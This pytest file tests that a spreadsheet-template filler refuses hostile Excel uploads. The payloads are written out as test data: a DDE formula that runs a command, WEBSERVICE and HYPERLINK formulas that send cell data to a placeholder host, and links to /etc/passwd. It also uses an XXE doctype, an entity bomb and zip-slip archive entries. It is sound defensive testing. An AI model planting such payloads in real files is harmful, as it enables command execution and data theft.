"""Templates from outside: what they may not hold, and that damage is refused in words."""

from __future__ import annotations

import io
import random
import stat
import zipfile
from collections.abc import Callable
from typing import Any

import pytest

from casework.errors import BadFile, CaseworkError, Incomplete
from casework.workbooks.filling import package
from casework.workbooks.filling.formulas import reaches_out

from .templates import cells, fill, made, office_template, parts, rewritten

OFFICE = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"
SHEET, BOOK = "xl/worksheets/sheet1.xml", "xl/workbook.xml"
BOOK_RELATIONS, SHEET_RELATIONS = "xl/_rels/workbook.xml.rels", "xl/worksheets/_rels/sheet1.xml.rels"
BARE = cells(("{{received}}",))


def refused(template: bytes) -> str:
    """The one line that a person is told."""
    with pytest.raises(BadFile) as caught:
        fill(template)
    told = str(caught.value)
    assert "\n" not in told
    assert "模板.xlsx" in told
    return told


def swap(old: str, new: str) -> Callable[[bytes], bytes]:
    def change(data: bytes) -> bytes:
        assert old.encode() in data
        return data.replace(old.encode(), new.encode(), 1)

    return change


def with_relation(kind: str, target: str, *, outside: bool = False, more: bytes = b"<x/>") -> bytes:
    mode = ' TargetMode="External"' if outside else ""
    line = f'<Relationship Id="rEvil" Type="{OFFICE}/{kind}" Target="{target}"{mode}/></Relationships>'
    extra = {} if outside else {f"xl/{target}": more}
    return rewritten(BARE, {BOOK_RELATIONS: swap("</Relationships>", line)}, extra)


def with_formula(formula: str) -> bytes:
    escaped = formula.replace("&", "&amp;").replace("<", "&lt;")
    return rewritten(BARE, {SHEET: swap("</row>", f'<c r="B1"><f>{escaped}</f><v>0</v></c></row>')})


# --- what runs or reaches out ----------------------------------------------------------------------

HELD = {
    "macros": ("vbaProject", "vbaProject.bin", "宏"),
    "old macros": ("xlMacrosheet", "macrosheets/sheet1.xml", "宏"),
    "ActiveX": ("control", "activeX/activeX1.xml", "ActiveX"),
    "a button": ("ctrlProp", "ctrlProps/ctrlProp1.xml", "控件"),
    "OLE": ("oleObject", "embeddings/oleObject1.bin", "嵌入"),
    "an embedded file": ("package", "embeddings/book.xlsx", "嵌入"),
    "another workbook": ("externalLink", "externalLinks/externalLink1.xml", "外部"),
    "a data connection": ("connections", "connections.xml", "数据连接"),
    "a query": ("queryTable", "queryTables/queryTable1.xml", "数据连接"),
    "RTD": ("volatileDependencies", "volatileDependencies.xml", "数据连接"),
}


@pytest.mark.parametrize("case", HELD)
def test_what_runs_or_fetches_is_refused_and_named(case):
    kind, target, word = HELD[case]
    assert word in refused(with_relation(kind, target)), case


def test_all_reasons_are_told_at_once():
    template = rewritten(
        with_formula("cmd|'/c calc'!A0"), {}, {"xl/vbaProject.bin": b"x", "xl/activeX/activeX1.bin": b"x"}
    )
    told = refused(template)
    assert all(word in told for word in ("宏", "ActiveX", "cmd|"))


def test_a_workbook_with_macros_enabled_is_refused():
    kind = swap("spreadsheetml.sheet.main+xml", "x")
    enabled = "application/vnd.ms-excel.sheet.macroEnabled.main+xml"
    template = rewritten(
        BARE,
        {
            "[Content_Types].xml": swap(
                "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet.main+xml", enabled
            )
        },
    )
    assert "宏" in refused(template)
    assert "xlsx" in refused(rewritten(BARE, {"[Content_Types].xml": kind}))


def test_a_template_file_of_excel_becomes_a_workbook():
    template = rewritten(
        BARE, {"[Content_Types].xml": swap("spreadsheetml.sheet.main+xml", "spreadsheetml.template.main+xml")}
    )
    assert b"spreadsheetml.sheet.main+xml" in parts(fill(template))["[Content_Types].xml"]


LIVE = [
    "cmd|'/c calc'!A0",
    "[1]Sheet1!A1",
    "SUM('[book.xlsx]甲 乙'!A1:B2)",
    "'file:///c:/x.xlsx'#$Sheet1.A1",
    'WEBSERVICE("http://x.example")',
    'HYPERLINK("http://x.example/?"&A1)',
    "HYPERLINK(A1)",
    'RTD("x",,"y")',
    '_xlfn.IMAGE("http://x.example")',
    'CALL("kernel32","x","y")',
    'DDE("soffice","x","y")',
    "1+[2]!name",
    "A1+" * 6000 + "1",
]
QUIET = [
    "SUM(A1:A3)",
    'IF(A1="a|b","[1]Sheet1!A1","cmd|x")',
    "SUM(表[件数])",
    "SUM(表[[#This Row],[件数]])",
    'HYPERLINK("#汇总!A1","回到")',
    'HYPERLINK("https://example.com/a","看")',
    "[0]!name",
    "'一 月'!A1+月报!B2",
    "WEBSERVICE_2+1",
    "{1,2;3,4}",
]


@pytest.mark.parametrize("formula", LIVE)
def test_a_formula_that_reaches_out_is_refused_wherever_it_stands(formula):
    assert list(reaches_out(formula))
    refused(with_formula(formula))
    named = swap("</sheets>", "</sheets><definedNames><definedName name='n'>X</definedName></definedNames>")
    content = formula.replace("&", "&amp;")
    refused(rewritten(BARE, {BOOK: lambda data: named(data).replace(b">X<", f">{content}<".encode())}))


@pytest.mark.parametrize("formula", QUIET)
def test_an_ordinary_formula_is_not(formula):
    assert not list(reaches_out(formula))


@pytest.mark.filterwarnings("ignore:Unknown worksheet reference")
@pytest.mark.parametrize("place", ["formula1", "cf", "chart"])
def test_formulas_outside_of_cells_are_looked_at(place):
    live = "cmd|'/c calc'!A0"

    def draw(book: Any, sheet: Any) -> None:
        sheet.write("A1", "{{received}}")
        if place == "formula1":
            sheet.data_validation("A2", {"validate": "custom", "value": f"={live}"})
        elif place == "cf":
            sheet.conditional_format(
                "A2", {"type": "formula", "criteria": f"={live}", "format": book.add_format()}
            )
        else:
            chart = book.add_chart({"type": "bar"})
            chart.add_series({"values": f"={live}"})
            sheet.insert_chart("C1", chart)

    assert "cmd|" in refused(made(draw))


@pytest.mark.parametrize(
    "target", ["file:///etc/passwd", "\\\\host\\share", "javascript:alert(1)", "smb://h/x"]
)
def test_a_link_to_anything_but_the_web_or_mail_is_refused(target):
    template = with_relation("hyperlink", target, outside=True)
    assert target[:6] in refused(template)


def test_a_picture_from_the_web_is_refused_and_a_link_to_a_page_is_not():
    refused(with_relation("image", "https://x.example/pixel.png", outside=True))
    fill(with_relation("hyperlink", "https://example.com/", outside=True))


# --- zip and XML -----------------------------------------------------------------------------------


@pytest.mark.parametrize(
    "data", [b"", b"PK", b"hello", bytes.fromhex("d0cf11e0a1b11ae1") + b"\0" * 600, b"%PDF-1.7"]
)
def test_what_is_no_workbook_is_refused(data):
    refused(data)


def zipped(entries: list[tuple[Any, bytes]]) -> bytes:
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w", zipfile.ZIP_DEFLATED) as archive:
        for entry, content in entries:
            archive.writestr(entry, content)
    return buffer.getvalue()


@pytest.mark.filterwarnings("ignore:Duplicate name")
def test_a_zip_that_is_not_safe_to_open_is_refused():
    plain = list(parts(BARE).items())
    link = zipfile.ZipInfo("xl/link.xml")
    link.external_attr = (stat.S_IFLNK | 0o777) << 16
    encrypted = bytearray(zipped([*plain]))
    place = encrypted.rfind(b"PK\x01\x02")
    encrypted[place + 8] |= 1
    for data in (
        zipped([*plain, ("xl/workbook.xml", b"<x/>")]),
        zipped([*plain, ("XL/Workbook.xml", b"<x/>")]),
        zipped([*plain, (link, b"target")]),
        zipped([*plain, ("../evil.xml", b"<x/>")]),
        zipped([*plain, ("/evil.xml", b"<x/>")]),
        zipped([*plain, ("xl/media/big.bin", b"\0" * (3 << 20))]),
        zipped([*plain, *((f"xl/media/{i}.bin", b"") for i in range(2_001))]),
        bytes(encrypted),
        BARE[: len(BARE) // 2],
    ):
        refused(data)


def test_a_template_that_unpacks_to_too_much_is_refused_before_it_is_unpacked(monkeypatch):
    monkeypatch.setattr(package, "MOST_UNPACKED", 1_000)
    assert "MB" in refused(BARE)


DOCTYPE = '<!DOCTYPE x [<!ENTITY a "b"><!ENTITY c SYSTEM "file:///etc/hostname">]>'


@pytest.mark.parametrize(
    "part", [BOOK, SHEET, "xl/styles.xml", "[Content_Types].xml", BOOK_RELATIONS, "docProps/core.xml"]
)
def test_a_doctype_is_refused_in_every_part(part):
    def declare(data: bytes) -> bytes:
        head, mark, rest = data.partition(b"?>")
        return head + mark + DOCTYPE.encode() + rest

    assert "DOCTYPE" in refused(rewritten(BARE, {part: declare}))


def test_an_entity_bomb_and_utf_16_are_refused():
    bomb = '<!DOCTYPE w [<!ENTITY a "aaaaaaaaaa">' + "".join(
        f'<!ENTITY {chr(98 + i)} "{("&" + chr(97 + i) + ";") * 10}">' for i in range(8)
    )
    refused(rewritten(BARE, {SHEET: lambda _data: (bomb + "]><worksheet>&i;</worksheet>").encode()}))
    wide = '<?xml version="1.0" encoding="UTF-16"?>' + DOCTYPE + "<worksheet/>"
    refused(rewritten(BARE, {SHEET: lambda _data: wide.encode("utf-16")}))


@pytest.mark.parametrize(
    ("old", "new"),
    [
        ('r="1"', 'r="4294967295"'),
        ('r="1"', 'r="0"'),
        ('r="1"', 'r="x"'),
        ('r="A1"', 'r="XFE1"'),
        ('r="A1"', 'r="A7"'),
        ("<sheetData>", "<sheetDat>"),
    ],
)
def test_rows_and_cells_out_of_bounds_are_refused(old, new):
    refused(rewritten(BARE, {SHEET: swap(old, new)}))


def test_a_part_that_is_named_and_missing_is_refused():
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w") as archive:
        for name, content in parts(BARE).items():
            if name != SHEET:
                archive.writestr(name, content)
    assert "sheet1.xml" in refused(buffer.getvalue())


def test_a_list_that_no_sheet_can_hold_is_refused():
    def draw(_book: Any, sheet: Any) -> None:
        sheet.write("A1", "{{resolution.n}}")
        sheet.write("A1048574", "end")

    refused(made(draw))
    wide = cells(tuple("{{resolution.n}}" for _place in range(500)))
    with pytest.raises(BadFile):
        fill(wide, 10_000)


@pytest.mark.parametrize("seed", range(4))
def test_a_damaged_template_is_refused_or_filled_but_nothing_else_happens(seed):
    template, dice = office_template(), random.Random(seed)  # noqa: S311 - damage that can be repeated
    content = parts(template)
    for _round in range(60):
        name = dice.choice([name for name in content if name.endswith((".xml", ".rels"))])
        data = bytearray(content[name])
        for _change in range(dice.randint(1, 4)):
            place = dice.randrange(len(data))
            data[place : place + dice.randint(0, 3)] = bytes(
                dice.choices(b"<>/\"=0129aAzZ&;'-! ", k=dice.randint(0, 3))
            )
        try:
            filled = fill(rewritten(template, {name: lambda _old, new=bytes(data): new}))
        except (BadFile, Incomplete) as error:
            assert isinstance(error, CaseworkError)
        else:
            assert zipfile.ZipFile(io.BytesIO(filled)).testzip() is None
